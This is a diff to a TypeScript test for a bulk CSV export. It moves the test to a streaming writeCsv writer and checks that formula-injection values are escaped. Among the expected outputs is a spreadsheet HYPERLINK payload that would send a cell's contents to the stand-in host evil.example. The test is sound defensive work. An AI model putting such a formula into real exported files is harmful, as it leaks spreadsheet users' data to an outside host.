@@ -1,5 +1,7 @@
+import { Writable } from 'node:stream';
+
 import { toGlobalId } from '../src/shared/ids';
-import { readTable, writeTable } from '../src/modules/bulk/bulk.format';
+import { readTable, writeCsv } from '../src/modules/bulk/bulk.format';
 import { todayIn } from '../src/shared/dates';
 import { useDatabase } from './support/graphql';
 
@@ -441,7 +443,23 @@ describe('hardening the probe asked for', () => {
         ['@SUM(1)', '\tx'],
       ],
     };
-    const written = (await writeTable(table, 'csv', 'x')).toString('utf8');
+    const chunks: Buffer[] = [];
+    const out = new Writable({
+      write(chunk: Buffer, _encoding, done) {
+        chunks.push(chunk);
+        done();
+      },
+    });
+    await writeCsv(
+      {
+        headers: table.headers,
+        rows: (async function* () {
+          yield* table.rows;
+        })(),
+      },
+      out,
+    );
+    const written = Buffer.concat(chunks).toString('utf8');
     expect(written).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`);
     expect(written).toContain("'+84912345678");
     expect(written).toContain("'@SUM(1)");
